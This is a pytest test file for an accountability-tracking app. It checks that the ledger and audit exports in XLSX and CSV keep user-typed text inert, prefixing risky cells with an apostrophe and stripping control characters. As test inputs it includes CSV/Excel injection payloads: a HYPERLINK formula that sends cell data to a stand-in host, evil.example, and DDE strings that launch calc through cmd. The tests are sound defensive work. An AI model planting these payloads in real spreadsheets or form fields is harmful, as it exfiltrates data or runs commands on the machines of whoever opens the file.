"""What a unit or a stranger typed stays text in every export: no live formula in the office's Excel."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from tracker.extensions import db
from tracker.models import AccountabilityRecord, ItemStatus
from tracker.services.trust import audit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
RISKY = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def answered_record(make_item, now):
    """A 督办 record whose reason, answer and closing note are what a careless or hostile user might write."""
    def make(*, reason: str = "逾期 16 天", answer: str = HYPERLINK, note: str = "") -> AccountabilityRecord:
        item = make_item("sfj", status=ItemStatus.IN_PROGRESS, title="导出事项")
        record = AccountabilityRecord(item_id=item.id, unit_id=item.unit_id, level=3, level_name="督办",
                                      due_date=item.due_date, reason=reason, issued_at=now,
                                      answer_due=date(2099, 1, 1), answer_text=answer, close_note=note)
        db.session.add(record)
        db.session.flush()
        return record
    return make


def _sheet_row(response, record_id: int):
    """The one record's row, below the title row and the header (the export numbers rows, it shows no id)."""
    sheet = load_workbook(io.BytesIO(response.data)).active
    (row,) = sheet.iter_rows(min_row=3)
    return row


def test_a_units_formula_answer_is_a_string_cell_in_the_ledger_xlsx(sign_in, people, answered_record):
    record = answered_record(answer=HYPERLINK, note="=1+1")
    response = sign_in(people["office"]).get("/ledger/export.xlsx")
    assert response.status_code == 200
    row = _sheet_row(response, record.id)
    cells = {cell.value: cell.data_type for cell in row}
    assert cells[HYPERLINK] == "s" and cells["=1+1"] == "s"
    assert "f" not in cells.values()


def test_control_characters_in_an_answer_do_not_break_the_xlsx_export(sign_in, people, answered_record):
    record = answered_record(answer="已整改\x0b完毕\x1f", reason="逾期\ufffe 16 天")
    response = sign_in(people["office"]).get("/ledger/export.xlsx")
    assert response.status_code == 200
    values = [cell.value for cell in _sheet_row(response, record.id)]
    assert "已整改完毕" in values and "逾期 16 天" in values


@pytest.mark.parametrize("text", RISKY)
def test_a_csv_cell_excel_would_run_gets_a_leading_apostrophe(sign_in, people, answered_record, text):
    answered_record(answer=text, note=text, reason=text)
    response = sign_in(people["office"]).get("/ledger/export.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    (row,) = rows[1:]
    assert row.count("'" + text) == 3
    assert text not in row


def test_the_csv_export_says_its_content_type_once(sign_in, people, answered_record):
    answered_record()
    response = sign_in(people["office"]).get("/ledger/export.csv")
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]


def test_a_failed_login_name_is_text_in_the_audit_export(app):
    at = datetime(2031, 5, 6, 2, 0, tzinfo=timezone.utc)
    audit.record(actor=None, actor_label="=cmd|' /C calc'!A0", action="auth.login_failed", entity_type="login",
                 entity_id=None, after={"address": "@evil"}, now=at)
    result = app.test_cli_runner().invoke(args=["tracker", "export-audit", "--from", "2031-05-06",
                                                "--to", "2031-05-06"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"), newline="")))
    (row,) = [r for r in rows[1:] if r[4] == "auth.login_failed"]
    assert row[3] == "'=cmd|' /C calc'!A0"
